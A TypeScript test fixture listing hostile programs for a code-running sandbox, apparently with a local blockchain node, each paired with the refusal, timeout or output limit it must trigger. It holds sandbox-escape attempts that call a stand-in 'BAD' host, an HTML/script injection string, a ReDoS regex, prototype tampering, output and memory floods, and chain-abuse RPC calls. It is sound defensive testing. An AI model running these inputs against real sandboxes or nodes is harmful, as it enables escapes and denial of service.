/** A program that means harm, and what must become of it. */
export type HostileProgram = {
  name: string;
  /** A module of CommonJS; `BAD` stands for the address of a server that counts requests. */
  code: string;
  end: readonly string[];
  /** What it must have printed. */
  out?: RegExp;
  usesChain?: boolean;
  limitMs?: number;
};

/** It may try, and prints what came of it: it must be refused. */
const tries = (name: string, body: string): HostileProgram => ({
  name,
  code: `(async () => {
    try { console.log('GOT', String(await (async () => { ${body} })())); }
    catch (error) { console.log('refused', String(error).slice(0, 200)); }
  })();`,
  end: ['exited'],
  out: /^refused /,
});

/** It never ends by itself. */
const hangs = (name: string, code: string): HostileProgram => ({
  ...{name, code: `console.log('before');\n${code}`, end: ['timed-out'], limitMs: 400},
  out: /^before\n/,
});

const prints = (name: string, code: string, out: RegExp): HostileProgram => ({
  ...{name, code, out, end: ['exited']},
});

const floods = (name: string, code: string): HostileProgram => ({
  ...{name, code, end: ['printed-too-much'], limitMs: 8_000},
});

const once = (start: string) => `return await new Promise((resolve, reject) => { ${start} })`;

/** Doors to a network, the site and other workers. */
export const network: readonly HostileProgram[] = [
  tries('fetch', `return (await fetch('BAD/fetch')).status`),
  tries(
    'the fetch below ours',
    `let f; for (let o = self; (o = Object.getPrototypeOf(o)); ) f ??= Object.getOwnPropertyDescriptor(o, 'fetch')?.value; delete self.fetch; return (await (f ?? self.fetch).call(self, 'BAD/below')).status`,
  ),
  tries('fetch of the site', `return (await fetch(location.origin + '/run/site.json')).status`),
  tries(
    'an address that looks like the chain',
    `return (await fetch('http://127.0.0.1:8545@HOST_OF_BAD/')).status`,
  ),
  tries(
    'XMLHttpRequest',
    once(
      `const x = new XMLHttpRequest(); x.onload = () => resolve(x.status); x.onerror = () => reject('blocked'); x.open('GET', 'BAD/xhr'); x.send();`,
    ),
  ),
  tries(
    'XMLHttpRequest that waits',
    `const x = new XMLHttpRequest(); x.open('GET', 'BAD/sync', false); x.send(); return x.status`,
  ),
  tries(
    'WebSocket',
    once(`const s = new WebSocket('ws://HOST_OF_BAD/'); s.onopen = resolve; s.onerror = reject;`),
  ),
  tries(
    'EventSource',
    once(`const s = new EventSource('BAD/events'); s.onopen = resolve; s.onerror = reject;`),
  ),
  tries(
    'WebTransport',
    `const t = new WebTransport('https://HOST_OF_BAD/'); await t.ready; return 'ready'`,
  ),
  tries(
    'WebRTC',
    `const c = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST_OF_BAD'}]}); c.createDataChannel('x'); return (await c.createOffer()).sdp`,
  ),
  tries('sendBeacon', `return navigator.sendBeacon('BAD/beacon')`),
  tries('a font', `return (await new FontFace('x', 'url(BAD/font)').load()).status`),
  tries('importScripts', `importScripts('BAD/script.js'); return 1`),
  tries('import() of another origin', `return Object.keys(await import('BAD/module.js'))`),
  tries('import() of text', `return (await import('data:text/javascript,export const a = 1')).a`),
  tries(
    'import() of a blob',
    `return (await import(URL.createObjectURL(new Blob(['export const a = 1'], {type: 'text/javascript'})))).a`,
  ),
  tries('a worker', `return String(new Worker('BAD/worker.js'))`),
  tries(
    'a worker of its own text',
    `return String(new Worker(URL.createObjectURL(new Blob(['for (;;);']))))`,
  ),
  tries('a shared worker', `return String(new SharedWorker('BAD/shared.js'))`),
  tries('a service worker', `return await navigator.serviceWorker.register('BAD/sw.js')`),
];

/** Code made of text, and what a browser stores. */
export const codeAndStorage: readonly HostileProgram[] = [
  tries('eval', `return eval('1 + 1')`),
  tries('indirect eval', `return (0, eval)('1 + 1')`),
  tries('Function', `return new Function('return 2')()`),
  tries(
    'the constructor of async functions',
    `return await (async () => {}).constructor('return 2')()`,
  ),
  tries(
    'a timer with text',
    `setTimeout('self.ran = 1', 0); await new Promise((r) => setTimeout(r, 20)); return self.ran`,
  ),
  tries(
    'WebAssembly',
    `return await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))`,
  ),
  tries(
    'IndexedDB',
    once(
      `const r = indexedDB.open('x'); r.onsuccess = () => resolve('open'); r.onerror = () => reject(r.error);`,
    ),
  ),
  tries('Cache Storage', `return await caches.open('x')`),
  tries('cookies', `return await cookieStore.getAll()`),
  tries('localStorage', `return localStorage.secret`),
  tries('sessionStorage', `return sessionStorage.secret`),
  tries('files of the origin', `return await navigator.storage.getDirectory()`),
  tries('BroadcastChannel', `new BroadcastChannel('x').postMessage('hello'); return 'sent'`),
  tries('locks', `return await navigator.locks.request('x', () => 'held')`),
];

/** The page around it, and the reports by which it learns of a run. */
export const page: readonly HostileProgram[] = [
  tries('the parent', `return parent.document.title`),
  tries('the top', `return top.location.href`),
  tries('the document', `return document.cookie`),
  tries('a forged end', `postMessage({type: 'ended', exitCode: 0}); return 'sent'`),
  tries(
    'a forged message',
    `dispatchEvent(new MessageEvent('message', {ports: [new MessageChannel().port1]})); return document`,
  ),
  prints(
    'a report as text',
    `console.log(JSON.stringify({type: 'ended', exitCode: 7}))`,
    /^\{"type":"ended","exitCode":7\}\n$/,
  ),
  prints(
    'HTML',
    `console.log('<img src=x onerror="parent.hacked=1"><script>top.hacked=1</script>')`,
    /^<img src=x onerror=/,
  ),
  prints('broken unicode', `console.log('\\ud83d', '\\udc00', '\\u202e', '\\0')`, /^\ud83d|\ufffd/),
  {
    name: 'an exit code that is none',
    ...{code: `process.exit({toString: () => 'x'})`, end: ['exited']},
  },
  {
    name: 'code after the end',
    ...{
      code: `try { process.exit(0); } catch {} console.log('late'); setTimeout(() => console.log('later'), 10);`,
      end: ['exited'],
      out: /^$/,
    },
  },
  {
    name: 'text that leaves its function',
    ...{
      code: `}}}); postMessage({type: 'ended', exitCode: 0}); ({a: {load() {`,
      end: ['not-started'],
      out: /^$/,
    },
  },
  {
    name: 'a function in the place of postMessage',
    code: `}}}); function postMessage() {} for (const a of [1]) { ({a: {load() { }}}); } ({b: {load() {`,
    ...{end: ['not-started', 'timed-out'], limitMs: 400, out: /^$/},
  },
  {
    name: 'an error for ever',
    ...{
      code: `for (;;) reportError(new Error('x'.repeat(1000)))`,
      end: ['exited', 'timed-out'],
      limitMs: 1_000,
    },
  },
  {
    name: 'an error that nobody may handle',
    ...{
      code: `Event.prototype.preventDefault = () => {}; setTimeout(() => { throw new Error('x'.repeat(1e5)); }, 0)`,
      end: ['exited'],
    },
  },
];

/** Loops of every kind, each ended by the limit of the run. */
export const loops: readonly HostileProgram[] = [
  hangs('a loop', `for (;;);`),
  hangs('a loop of promises', `(async () => { for (;;) await 0; })()`),
  hangs('a loop of microtasks', `const again = () => queueMicrotask(again); again()`),
  hangs('a loop of timers', `setInterval(() => {}, 0)`),
  hangs('a timer of a year', `setTimeout(() => {}, 2 ** 31 - 1)`),
  hangs('an expression that backtracks', `/^(a+)+$/.test('a'.repeat(40) + 'b')`),
  hangs('a getter in a getter', `const o = {get a() { for (;;); }}; o.a`),
  hangs(
    'a proxy without end',
    `const p = new Proxy({}, {ownKeys: () => { for (;;); }}); Object.keys(p)`,
  ),
  hangs('a number that grows', `let n = 3n; for (;;) n = (n * n) % (2n ** 4096n)`),
  hangs('a program that waits', `new Promise(() => {}); setInterval(() => {}, 1e6)`),
  {
    name: 'recursion without end',
    ...{code: `const f = () => f() + 1; f()`, end: ['exited']},
  },
];

/** Output without end, and values that do harm when they are printed. */
export const output: readonly HostileProgram[] = [
  floods('lines', `for (;;) console.log('x'.repeat(1_000))`),
  floods('short lines', `for (;;) console.log('x')`),
  floods('both streams in turn', `for (;;) { console.log('x'); console.error('y'); }`),
  floods('a text of 64 MB', `console.log('x'.repeat(2 ** 26))`),
  floods('standard output', `for (;;) process.stdout.write('x'.repeat(1e5))`),
  floods(
    'places of errors',
    `for (;;) console.log('blob:'.repeat(2_000) + 'at Object.load ('.repeat(500))`,
  ),
  floods(
    'floods after a change of the language',
    `String.prototype.slice = function () { return this; }; for (;;) console.log('x'.repeat(1_000))`,
  ),
  prints(
    'a getter that throws',
    `console.log({get a() { throw new Error('no'); }}); console.log('after')`,
    /Getter[^]*after\n$/,
  ),
  prints(
    'a proxy that throws',
    `console.log(new Proxy({}, {get() { throw new Error('no'); }})); console.log('after')`,
    /after\n$/,
  ),
  prints(
    'an error that throws',
    `const e = new Error('a'); Object.defineProperty(e, 'stack', {get() { throw 1; }}); console.log(e); console.log('after')`,
    /after\n$/,
  ),
  prints(
    'text that throws',
    `console.log('%s', {toString() { throw new Error('no'); }}); console.log('after')`,
    /after\n$/,
  ),
  prints(
    'a value without end',
    `const a = {}; a.a = a; let d = {}; for (let i = 0; i < 1e5; i++) d = {d}; console.log(a, d); console.log('after')`,
    /Circular[^]*after\n$/,
  ),
  prints(
    'a million items',
    `console.log(new Array(1e6).fill({a: [1]}), new Map(Array.from({length: 1e5}, (_, i) => [i, i]))); console.log('after')`,
    /after\n$/,
  ),
];

/** The language under the runtime, changed by the program. */
export const language: readonly HostileProgram[] = [
  ...[
    [
      'arrays',
      `for (const k of ['push', 'map', 'join', 'slice', 'filter', 'forEach']) Array.prototype[k] = () => { throw new Error('mine'); }`,
    ],
    ['promises', `Promise.prototype.then = () => { throw new Error('mine'); }`],
    [
      'texts',
      `for (const k of ['replace', 'replaceAll', 'slice', 'split']) String.prototype[k] = () => { throw new Error('mine'); }`,
    ],
    [
      'functions',
      `for (const k of ['call', 'apply', 'bind']) Function.prototype[k] = () => { throw new Error('mine'); }`,
    ],
    [
      'objects',
      `Object.prototype.type = 'ended'; Object.prototype.exitCode = 0; Object.prototype.text = {}`,
    ],
    [
      'setters of all objects',
      `Object.defineProperty(Object.prototype, 'text', {set() { throw 1; }, configurable: true})`,
    ],
    [
      'maps',
      `Map.prototype.get = Map.prototype.set = Set.prototype.add = () => { throw new Error('mine'); }`,
    ],
    [
      'ports',
      `MessagePort.prototype.postMessage = function () { this.close(); throw new Error('mine'); }`,
    ],
    ['JSON', `JSON.parse = JSON.stringify = () => { throw new Error('mine'); }`],
    [
      'numbers',
      `Number.isInteger = () => true; globalThis.Number = () => NaN; globalThis.String = () => ({})`,
    ],
    ['clocks', `performance.now = Date.now = () => NaN`],
    [
      'all names deleted',
      `for (const k of Object.getOwnPropertyNames(self)) try { delete self[k]; } catch {}`,
    ],
  ].map(([name = '', code = '']): HostileProgram => ({
    name: `changed: ${name}`,
    code: `const log = console.log;\n${code};\nlog('changed');`,
    end: ['exited', 'timed-out', 'not-started'],
    limitMs: 600,
  })),
];

const ask = (method: string, params: string) =>
  `fetch('http://127.0.0.1:8545', {method: 'POST', body: JSON.stringify({jsonrpc: '2.0', id: 1, method: '${method}', params: ${params}})})`;

/** Bytecode that jumps to its start until its gas is spent. */
const BURNS_GAS = '0x5b600056';

/** The chain, which the next run finds as it begins. */
export const chain: readonly HostileProgram[] = [
  {
    name: 'requests without end',
    code: `for (;;) ${ask('eth_blockNumber', '[]')}`,
    ...{usesChain: true, end: ['timed-out'], limitMs: 300},
  },
  {
    name: 'a call that burns all gas, many times',
    code: `for (let i = 0; i < 200; i++) ${ask('eth_call', `[{data: '${BURNS_GAS}', gas: '0x1c9c380'}, 'latest']`)}`,
    ...{usesChain: true, end: ['timed-out', 'exited'], limitMs: 1_000},
  },
  {
    name: 'sixteen million blocks',
    code: `${ask('anvil_mine', `['0xffffff']`)}.then((answer) => answer.text()).then(console.log)`,
    ...{usesChain: true, end: ['exited', 'timed-out'], limitMs: 2_000},
  },
  {
    name: 'requests that are none',
    code: `(async () => { for (const body of ['null', '[]', '1', '{"method":{}}', '{"method":"eth_call","params":{}}', '{"method":"__proto__","params":[]}', '{"method":"constructor"}', '{"method":"eth_call","params":[{"to":{},"data":[]}]}']) console.log((await (await fetch('http://127.0.0.1:8545', {method: 'POST', body})).text()).length > 0); })()`,
    ...{usesChain: true, end: ['exited'], out: /^(true\n){8}$/},
  },
  {
    name: 'another balance for the next run',
    code: `${ask('anvil_setBalance', `['0x000000000000000000000000000000000000dEaD', '0x1234']`)}.then((answer) => answer.text()).then(console.log)`,
    ...{usesChain: true, end: ['exited'], out: /result/},
  },
];

/** Memory that browsers bound: more of it cannot be had, or does not crash the page. */
export const memory: readonly HostileProgram[] = [
  {
    name: 'arrays of bytes',
    code: `const all = []; try { for (let i = 0; i < 40; i++) all.push(new ArrayBuffer(2 ** 30)); } catch (error) { console.log(error.name); }`,
    ...{end: ['exited', 'timed-out'], limitMs: 3_000},
  },
  {
    name: 'an array that is too long',
    code: `try { new Array(-1); } catch (error) { console.log(error.name); } try { 'x'.repeat(2 ** 30); } catch (error) { console.log(error.name); }`,
    ...{end: ['exited'], out: /^RangeError\nRangeError\n$/},
  },
  {
    name: 'messages to itself',
    code: `const {port1, port2} = new MessageChannel(); for (let i = 0; i < 1e5; i++) port1.postMessage('x'.repeat(100)); setInterval(() => {}, 1e6)`,
    ...{end: ['timed-out'], limitMs: 1_500},
  },
];
